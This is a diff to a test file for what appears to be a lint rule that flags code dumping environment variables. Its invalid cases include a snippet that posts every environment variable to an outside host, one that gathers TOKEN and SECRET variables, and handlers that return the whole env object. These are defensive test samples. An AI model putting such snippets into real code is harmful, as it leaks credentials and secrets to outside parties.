@@ -3,6 +3,9 @@ import { ruleTester } from '../tester.ts';
 
 await ruleTester(rule, {
   valid: [
+    { code: 'export default { async fetch(request, env, ctx) { const { results } = await env.DB.prepare("select 1").all(); return Response.json(results); } };' },
+    { code: 'import { Hono } from "hono"; const app = new Hono(); app.get("/e", (c) => c.json({ region: c.env.REGION }));' },
+    { code: 'export function fetch(request, env) { return new Response(JSON.stringify(env)); }' },
     // only variables with a known prefix, or out of a list
     { code: 'const vars = Object.keys(process.env).filter((k) => k.startsWith("npm_config_")).map((k) => `${k}=${process.env[k]}`); console.log(vars.join());' },
     { code: 'const raw = Object.keys(process.env).filter((k) => /^REACT_APP_/i.test(k)).reduce((env, k) => { env[k] = process.env[k]; return env; }, {}); app.get("/env", (req, res) => res.json(raw));' },
@@ -62,6 +65,9 @@ await ruleTester(rule, {
     { code: '{ "name": "a", "scripts": { "start": "env NODE_ENV=test node x.js" } }', filename: 'package.json' },
   ],
   invalid: [
+    { code: 'export default { async fetch(request, env) { return new Response(JSON.stringify(env)); } };', errors: [{ messageId: 'dump' }] },
+    { code: 'import { Hono } from "hono"; const app = new Hono(); app.get("/e", (c) => c.json(c.env));', errors: [{ messageId: 'dump' }] },
+    { code: 'import { spawn } from "node:child_process"; spawn(process.execPath, ["-e", "console.log(process.env)"]);', errors: [{ messageId: 'dump' }] },
     // every variable by its name, or those that look like secrets; in strict every selection
     { code: 'const out = {}; for (const k of Object.keys(process.env)) out[k] = process.env[k]; fetch("https://a.example-service.com", { method: "POST", body: JSON.stringify(out) });', errors: [{ messageId: 'dump' }] },
     { code: 'const keys = Object.keys(process.env).filter((k) => /TOKEN|SECRET/.test(k)); const out = {}; for (const k of keys) out[k] = process.env[k]; console.log(out);', errors: [{ messageId: 'dump' }] },
